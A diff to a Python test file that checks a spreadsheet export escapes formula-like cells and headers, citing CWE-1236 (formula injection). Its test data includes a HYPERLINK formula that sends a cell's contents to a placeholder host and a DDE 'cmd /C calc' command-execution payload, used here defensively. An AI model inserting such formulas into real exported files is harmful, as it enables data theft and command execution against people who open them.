@@ -77,12 +77,37 @@ def test_a_header_may_hold_what_a_cell_may(tmp_path: Path) -> None:
 
 @pytest.mark.parametrize(
     "cell",
-    ["=1+1", '=HYPERLINK("http://x/?"&A1)', "+81-6-1111", "-1+1", "@SUM(A1)", "\t=1", "\r=1", "-", "=", "-5\n=1"],
+    [
+        "=1+1",
+        '=HYPERLINK("http://x/?"&A1)',
+        "+81-6-1111",
+        "-1+1",
+        "@SUM(A1)",
+        "\t=1",
+        "\r=1",
+        "\n=1",
+        "\n",
+        "-",
+        "=",
+        "-5\n=1",
+    ],
 )
 def test_no_cell_is_a_formula_to_a_spreadsheet(tmp_path: Path, cell: str) -> None:
     """CWE-1236: the name somebody gave an applicant would be carried out at the call centre."""
     (shown,) = kept(tmp_path, cell).column("備考")
     assert shown == (cell if cell == "-" else f"'{cell}")
+
+
+@pytest.mark.parametrize("name", ["=cmd|' /C calc'!A0", "+x", "-x", "@x", "\\t=1", "\\n=1"])
+def test_no_header_is_one_either(tmp_path: Path, name: str) -> None:
+    """A purpose may be written by whoever the work was given to."""
+    made = kept(tmp_path, "x", text=changed(NUMBERED, ('out = "備考"', f'out = "{name}"')))
+    assert made.rows()[0] == ["'" + name.encode().decode("unicode_escape"), "整理番号"]
+
+
+def test_a_header_that_is_guarded_is_not_taken_for_another(tmp_path: Path) -> None:
+    text = changed(NUMBERED, ('out = "備考"', 'out = "=a"'), ('out = "整理番号"', 'out = "\'=a"'))
+    assert kept(tmp_path, "x", text=text).rows()[0] == ["'=a", "'=a"]
 
 
 @pytest.mark.parametrize(
